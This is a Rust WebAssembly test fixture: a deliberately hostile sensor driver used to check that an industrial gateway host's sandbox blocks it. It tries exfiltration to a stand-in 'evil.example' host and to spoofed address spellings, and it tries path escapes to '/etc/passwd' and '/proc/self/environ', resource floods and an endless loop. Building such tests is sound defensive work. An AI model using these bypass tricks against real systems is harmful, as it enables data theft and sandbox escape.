//! The hostile sensor driver of the threat scenario: "a driver on an offshore rig reads pressure data and
//! quietly sends it to the vendor's cloud". It implements world `sensor-driver` of
//! `wit/sensor-driver.wit` like any vendor driver (canonical ABI by hand, no crates), reports the
//! pressure, and on every poll tries what a malicious or compromised driver would try; the host must
//! answer each attempt with a typed error (`denied`, `bad-address`, `quota`, ...) or stop the guest, never
//! let it through. The driver reports what it got, in its log and in three counter readings, so a test
//! sees exactly which attempt succeeded.
//!
//! The attacks of a poll are the words of the file `attacks` in the sensor root, one a line (unknown
//! words are ignored); without that file, or when it cannot be read: `exfil paths huge`.
//!
//! ```text
//! exfil  connect to each of ENDPOINTS (the allowlisted one, neighbours, other spellings of it, lists,
//!        names, the vendor's cloud), send "pressure=TEXT\n" where connected, close; log each outcome
//! paths  read files and list directories outside the root (.., absolute, symbolic and magic links)
//! huge   read the file `big` with max-bytes 0xFFFFFFFF (the host must cap it)
//! flood  connect to the allowlisted endpoint and send 4096-byte chunks, up to 1000, until an error;
//!        then write 1000 log lines
//! spin   after everything else, loop forever (the host's fuel limit must stop it: a trap)
//! ```
//!
//! Log lines (warn unless said otherwise; an endpoint or path is written as it is, a newline included, so
//! the host's log must cope with what a driver writes):
//!
//! ```text
//! exfil ENDPOINT: sent | NET-ERROR          (of connect, or of send)
//! path PATH: ok N bytes | FS-ERROR          (read-file)
//! dir PATH: ok N names | FS-ERROR           (list-dir)
//! huge big: ok N bytes | FS-ERROR
//! flood 10.0.0.50:502: N bytes sent in K sends[, then NET-ERROR] | connect NET-ERROR
//! flood log line I of 1000                  (info, 1000 of them)
//! ```
//!
//! Readings: `pressure` (bar; 0 when unreadable), `exfil_attempts`, `exfil_sent`, `paths_read` (the
//! read-file and list-dir calls of `paths` that succeeded).
//!
//! Core imports (canonical ABI lowering; results through a return area the guest passes, `ret`):
//!
//! ```text
//! ics:gateway/sensor-fs@0.1.0  read-file (path_ptr i32, path_len i32, max_bytes i32, ret i32)
//!                              list-dir  (path_ptr i32, path_len i32, ret i32)
//! ics:gateway/sensor-net@0.1.0 connect   (endpoint_ptr i32, endpoint_len i32, ret i32)
//!                              send      (handle i32, data_ptr i32, data_len i32, ret i32)
//!                              close     (handle i32)
//! ics:gateway/log@0.1.0        write     (level i32, ptr i32, len i32)
//! ```
//!
//! Core exports: `ics:gateway/driver@0.1.0#init` () -> i32, `ics:gateway/driver@0.1.0#poll` () -> i32,
//! `cabi_post_ics:gateway/driver@0.1.0#poll` (i32), `cabi_realloc`, `memory`.
//!
//! Nothing here can panic (no indexing, no slicing by computed bounds), so the module holds no panic
//! messages or source paths; the guest traps only when the engine refuses to grow its memory, or when
//! `spin` runs out of fuel.
//!
//! Memory: the stack (16 KiB, below the data), the data, then a bump arena from `__heap_base`, rewound at
//! the start of every export call (and by the post-return function). A poll holds in it what the host
//! returned (files up to the host's cap, directory listings), so it is bounded by the host's caps.
#![no_std]
#![cfg_attr(test, allow(dead_code))]

#[cfg(test)]
extern crate std;

#[cfg(target_arch = "wasm32")]
#[panic_handler]
fn panic(_: &core::panic::PanicInfo) -> ! {
    core::arch::wasm32::unreachable()
}

/// The endpoints `exfil` tries, in this order. Only the first is allowlisted in the tests' configuration
/// (which listens on 10.0.0.50:502, 10.0.0.50:5020, 10.0.0.5:502 and 10.0.0.66:443).
const ENDPOINTS: [&str; 13] = [
    "10.0.0.50:502",
    "10.0.0.50:5020",
    "10.0.0.5:502",
    "10.0.0.500:502",
    "010.0.0.50:502",
    "[::ffff:10.0.0.50]:502",
    "10.0.0.50.evil.example:502",
    "10.0.0.50:502,10.0.0.66:443",
    "10.0.0.50:502 10.0.0.66:443",
    "10.0.0.50:502\n10.0.0.66:443",
    "0x0a.0.0.50:502",
    "167772210:502",
    "10.0.0.66:443",
];

/// The files `paths` reads: outside the root, through links; `link-in` and `sub/../pressure` end inside it,
/// "" and "." are the root itself (a directory).
const PATHS: [&str; 10] = [
    "../secret",
    "/etc/passwd",
    "sub/../../secret",
    "link-out",
    "link-in",
    "/proc/self/environ",
    "proc-self/environ",
    "sub/../pressure",
    "",
    ".",
];

/// The directories `paths` lists.
const DIRS: [&str; 3] = ["..", "/", "."];

/// The endpoint `flood` fills.
const FLOOD_ENDPOINT: &str = "10.0.0.50:502";
const FLOOD_CHUNK: u32 = 4096;
const FLOOD_SENDS: u32 = 1000;
const FLOOD_LOG_LINES: u32 = 1000;

/// The attacks, one bit each.
const EXFIL: u8 = 1;
const PATH_ESCAPES: u8 = 2;
const HUGE: u8 = 4;
const FLOOD: u8 = 8;
const SPIN: u8 = 16;
const DEFAULT_ATTACKS: u8 = EXFIL | PATH_ESCAPES | HUGE;

/// The attacks the file `attacks` names: its words, separated by whitespace (one a line).
fn attacks(text: &[u8]) -> u8 {
    let mut set = 0;
    for word in text.split(|b| is_space(*b)) {
        set |= match word {
            b"exfil" => EXFIL,
            b"paths" => PATH_ESCAPES,
            b"huge" => HUGE,
            b"flood" => FLOOD,
            b"spin" => SPIN,
            _ => 0,
        };
    }
    set
}

/// `enum fs-error` and `enum net-error`, the WIT names in WIT order (an enum is lowered to its index).
#[path = "../../sensor-driver-common/src/text.rs"]
mod text;
use text::*;

/// A log line built on the stack; what does not fit is cut.
struct Line {
    bytes: [u8; 256],
    len: usize,
}

impl Line {
    fn new() -> Line {
        Line { bytes: [0; 256], len: 0 }
    }

    fn text(mut self, text: &str) -> Line {
        self.push(text.as_bytes());
        self
    }

    fn number(mut self, mut value: u32) -> Line {
        let mut digits = [0u8; 10];
        let mut count = 0;
        for digit in digits.iter_mut().rev() {
            *digit = b'0' + (value % 10) as u8;
            value /= 10;
            count += 1;
            if value == 0 {
                break;
            }
        }
        self.push(digits.get(digits.len() - count..).unwrap_or(&[]));
        self
    }

    fn push(&mut self, bytes: &[u8]) {
        for (to, from) in self.bytes.iter_mut().skip(self.len).zip(bytes) {
            *to = *from;
            self.len += 1;
        }
    }

    fn as_bytes(&self) -> &[u8] {
        self.bytes.get(..self.len).unwrap_or(&[])
    }
}

#[cfg(target_arch = "wasm32")]
#[path = "../../sensor-driver-common/src/abi.rs"]
mod abi;

#[cfg(target_arch = "wasm32")]
mod driver {
    use super::*;
    use crate::abi::*;


    /// How much `paths` asks for (the host caps it further).
    const PATH_MAX_BYTES: u32 = 65536;
    const PRESSURE_MAX_BYTES: u32 = 64;
    const ATTACKS_MAX_BYTES: u32 = 1024;

    /// What `spin` counts, volatile so that the loop is not optimised away.
    static mut SPINS: u32 = 0;


    mod host {
        #[link(wasm_import_module = "ics:gateway/sensor-fs@0.1.0")]
        extern "C" {
            #[link_name = "read-file"]
            pub fn read_file(path: *const u8, path_len: usize, max_bytes: u32, ret: *mut u8);
            #[link_name = "list-dir"]
            pub fn list_dir(path: *const u8, path_len: usize, ret: *mut u8);
        }

        #[link(wasm_import_module = "ics:gateway/sensor-net@0.1.0")]
        extern "C" {
            #[link_name = "connect"]
            pub fn connect(endpoint: *const u8, endpoint_len: usize, ret: *mut u8);
            #[link_name = "send"]
            pub fn send(handle: u32, data: *const u8, data_len: usize, ret: *mut u8);
            #[link_name = "close"]
            pub fn close(handle: u32);
        }

        #[link(wasm_import_module = "ics:gateway/log@0.1.0")]
        extern "C" {
            #[link_name = "write"]
            pub fn write(level: u32, message: *const u8, message_len: usize);
        }
    }



    /// The concatenation of `parts`, in the arena.
    fn concat(parts: &[&[u8]]) -> &'static [u8] {
        let len: usize = parts.iter().map(|p| p.len()).sum();
        let ptr = alloc(1, len as u32) as usize as *mut u8;
        let mut at = ptr;
        for part in parts {
            unsafe {
                core::ptr::copy_nonoverlapping(part.as_ptr(), at, part.len());
                at = at.add(part.len());
            }
        }
        unsafe { core::slice::from_raw_parts(ptr, len) }
    }

    // -----------------------------------------------------------------------------------------------
    // Imports
    // -----------------------------------------------------------------------------------------------

    const INFO: u32 = 1;
    const WARN: u32 = 2;

    fn log(level: u32, message: &[u8]) {
        unsafe { host::write(level, message.as_ptr(), message.len()) }
    }

    fn ok_or_err() -> Result<(), u8> {
        let ret = ret_area();
        if load_u8(ret, 0) == 0 {
            Ok(())
        } else {
            Err(load_u8(ret, 4))
        }
    }

    /// `read-file: func(path: string, max-bytes: u32) -> result<list<u8>, fs-error>`.
    fn read_file(path: &str, max_bytes: u32) -> Result<&'static [u8], u8> {
        unsafe { host::read_file(path.as_ptr(), path.len(), max_bytes, ret_area()) };
        ok_or_err()?;
        let (ptr, len) = (load_u32(ret_area(), 4), load_u32(ret_area(), 8));
        Ok(unsafe { core::slice::from_raw_parts(ptr as usize as *const u8, len as usize) })
    }

    /// `list-dir: func(path: string) -> result<list<string>, fs-error>`: the number of names.
    fn list_dir(path: &str) -> Result<u32, u8> {
        unsafe { host::list_dir(path.as_ptr(), path.len(), ret_area()) };
        ok_or_err()?;
        Ok(load_u32(ret_area(), 8))
    }

    /// `connect: func(endpoint: string) -> result<u32, net-error>`: the handle.
    fn connect(endpoint: &str) -> Result<u32, u8> {
        unsafe { host::connect(endpoint.as_ptr(), endpoint.len(), ret_area()) };
        ok_or_err()?;
        Ok(load_u32(ret_area(), 4))
    }

    /// `send: func(handle: u32, data: list<u8>) -> result<u32, net-error>`: how many bytes were sent.
    fn send(handle: u32, data: &[u8]) -> Result<u32, u8> {
        unsafe { host::send(handle, data.as_ptr(), data.len(), ret_area()) };
        ok_or_err()?;
        Ok(load_u32(ret_area(), 4))
    }

    fn close(handle: u32) {
        unsafe { host::close(handle) }
    }

    // -----------------------------------------------------------------------------------------------
    // Exports
    // -----------------------------------------------------------------------------------------------

    /// `init: func() -> result<_, string>`: ok, like any driver.
    #[export_name = "ics:gateway/driver@0.1.0#init"]
    pub extern "C" fn init() -> u32 {
        rewind();
        let area = result_area();
        store_u8(area, 0, 0);
        area as usize as u32
    }

    /// What a poll found out.
    struct Counters {
        attempts: u32,
        sent: u32,
        paths_read: u32,
    }

    fn exfil(payload: &[u8], counters: &mut Counters) {
        for endpoint in ENDPOINTS {
            counters.attempts += 1;
            let outcome = match connect(endpoint) {
                Ok(handle) => {
                    let sent = send(handle, payload);
                    close(handle);
                    sent.map(|_| ())
                }
                Err(error) => Err(error),
            };
            let line = Line::new().text("exfil ").text(endpoint).text(": ");
            let line = match outcome {
                Ok(()) => {
                    counters.sent += 1;
                    line.text("sent")
                }
                Err(error) => line.text(net_error_name(error)),
            };
            log(WARN, line.as_bytes());
        }
    }

    fn path_escapes(counters: &mut Counters) {
        for path in PATHS {
            let line = Line::new().text("path ").text(path).text(": ");
            let line = match read_file(path, PATH_MAX_BYTES) {
                Ok(bytes) => {
                    counters.paths_read += 1;
                    line.text("ok ").number(bytes.len() as u32).text(" bytes")
                }
                Err(error) => line.text(fs_error_name(error)),
            };
            log(WARN, line.as_bytes());
        }
        for path in DIRS {
            let line = Line::new().text("dir ").text(path).text(": ");
            let line = match list_dir(path) {
                Ok(names) => {
                    counters.paths_read += 1;
                    line.text("ok ").number(names).text(" names")
                }
                Err(error) => line.text(fs_error_name(error)),
            };
            log(WARN, line.as_bytes());
        }
    }

    fn huge() {
        let line = Line::new().text("huge big: ");
        let line = match read_file("big", u32::MAX) {
            Ok(bytes) => line.text("ok ").number(bytes.len() as u32).text(" bytes"),
            Err(error) => line.text(fs_error_name(error)),
        };
        log(WARN, line.as_bytes());
    }

    fn flood() {
        let chunk = alloc(1, FLOOD_CHUNK);
        let chunk = unsafe { core::slice::from_raw_parts_mut(chunk as usize as *mut u8, FLOOD_CHUNK as usize) };
        for (i, byte) in chunk.iter_mut().enumerate() {
            *byte = b'A' + (i % 26) as u8;
        }
        let line = Line::new().text("flood ").text(FLOOD_ENDPOINT).text(": ");
        let line = match connect(FLOOD_ENDPOINT) {
            Err(error) => line.text("connect ").text(net_error_name(error)),
            Ok(handle) => {
                let mut bytes: u32 = 0;
                let mut sends: u32 = 0;
                let mut stopped = None;
                while sends < FLOOD_SENDS {
                    match send(handle, chunk) {
                        Ok(n) => {
                            bytes = bytes.saturating_add(n);
                            sends += 1;
                        }
                        Err(error) => {
                            stopped = Some(error);
                            break;
                        }
                    }
                }
                close(handle);
                let line = line.number(bytes).text(" bytes sent in ").number(sends).text(" sends");
                match stopped {
                    Some(error) => line.text(", then ").text(net_error_name(error)),
                    None => line,
                }
            }
        };
        log(WARN, line.as_bytes());
        let mut i = 1;
        while i <= FLOOD_LOG_LINES {
            log(INFO, Line::new().text("flood log line ").number(i).text(" of ").number(FLOOD_LOG_LINES).as_bytes());
            i += 1;
        }
    }

    fn spin() -> ! {
        loop {
            unsafe {
                let spins = core::ptr::read_volatile(core::ptr::addr_of!(SPINS));
                core::ptr::write_volatile(core::ptr::addr_of_mut!(SPINS), spins.wrapping_add(1));
            }
        }
    }

    /// `record reading`: size 24, align 8: name ptr at 0, name len at 4, value f64 at 8, unit ptr at 16,
    /// unit len at 20.
    const READING_SIZE: u32 = 24;

    /// `poll: func() -> result<list<reading>, string>`: always ok. The result area, size 12, align 4:
    /// case u8 at 0 (0 ok), list ptr at 4, count at 8.
    #[export_name = "ics:gateway/driver@0.1.0#poll"]
    pub extern "C" fn poll() -> u32 {
        rewind();
        let set = match read_file("attacks", ATTACKS_MAX_BYTES) {
            Ok(text) => attacks(text),
            Err(_) => DEFAULT_ATTACKS,
        };
        let (pressure, text) = match read_file("pressure", PRESSURE_MAX_BYTES) {
            Ok(text) => (parse_decimal(text).unwrap_or(0.0), trim(text)),
            Err(_) => (0.0, &b""[..]),
        };
        let payload = concat(&[b"pressure=", text, b"\n"]);

        let mut counters = Counters { attempts: 0, sent: 0, paths_read: 0 };
        if set & EXFIL != 0 {
            exfil(payload, &mut counters);
        }
        if set & PATH_ESCAPES != 0 {
            path_escapes(&mut counters);
        }
        if set & HUGE != 0 {
            huge();
        }
        if set & FLOOD != 0 {
            flood();
        }
        if set & SPIN != 0 {
            spin();
        }

        let readings: [(&str, f64, &str); 4] = [
            ("pressure", pressure, "bar"),
            ("exfil_attempts", counters.attempts as f64, ""),
            ("exfil_sent", counters.sent as f64, ""),
            ("paths_read", counters.paths_read as f64, ""),
        ];
        let list = alloc(8, readings.len() as u32 * READING_SIZE);
        for (i, (name, value, unit)) in readings.iter().enumerate() {
            let at = (list + i as u32 * READING_SIZE) as usize as *mut u8;
            store_u32(at, 0, name.as_ptr() as usize as u32);
            store_u32(at, 4, name.len() as u32);
            store_f64(at, 8, *value);
            store_u32(at, 16, unit.as_ptr() as usize as u32);
            store_u32(at, 20, unit.len() as u32);
        }
        let area = result_area();
        store_u8(area, 0, 0);
        store_u32(area, 4, list);
        store_u32(area, 8, readings.len() as u32);
        area as usize as u32
    }

    /// Post-return of `poll`: the host has lifted the readings; the arena is free again.
    #[export_name = "cabi_post_ics:gateway/driver@0.1.0#poll"]
    pub extern "C" fn poll_post_return(_result: u32) {
        rewind();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_attacks_file_names_the_attacks() {
        assert_eq!(attacks(b"exfil\npaths\nhuge\n"), DEFAULT_ATTACKS);
        assert_eq!(attacks(b"flood\r\nspin"), FLOOD | SPIN);
        assert_eq!(attacks(b"  exfil  \n\nnonsense\n"), EXFIL);
        assert_eq!(attacks(b""), 0);
    }

    #[test]
    fn the_pressure_file_parses() {
        assert_eq!(parse_decimal(b"4.25\n"), Some(4.25));
        assert_eq!(parse_decimal(b" -0.5 "), Some(-0.5));
        assert_eq!(parse_decimal(b"12"), Some(12.0));
        assert_eq!(parse_decimal(b"0.1"), Some(0.1));
        assert_eq!(parse_decimal(b".5"), Some(0.5));
        assert_eq!(parse_decimal(b"1e3"), Some(1000.0));
        for text in [&b""[..], b".", b"-", b"1.2.3", b"nan", b"12 bar", b"1e400"] {
            assert_eq!(parse_decimal(text), None);
        }
    }

    #[test]
    fn errors_have_their_wit_names() {
        assert_eq!(net_error_name(0), "denied");
        assert_eq!(net_error_name(6), "quota");
        assert_eq!(net_error_name(8), "too-many");
        assert_eq!(net_error_name(9), "unknown net-error");
        assert_eq!(fs_error_name(3), "too-large");
    }

    #[test]
    fn log_lines_are_built_and_cut() {
        let line = Line::new().text("path ").text("/etc/passwd").text(": ok ").number(0).text(" bytes ").number(4294967295);
        assert_eq!(line.as_bytes(), b"path /etc/passwd: ok 0 bytes 4294967295");
        let long = Line::new().text(core::str::from_utf8(&[b'x'; 300]).unwrap());
        assert_eq!(long.as_bytes().len(), 256);
    }
}
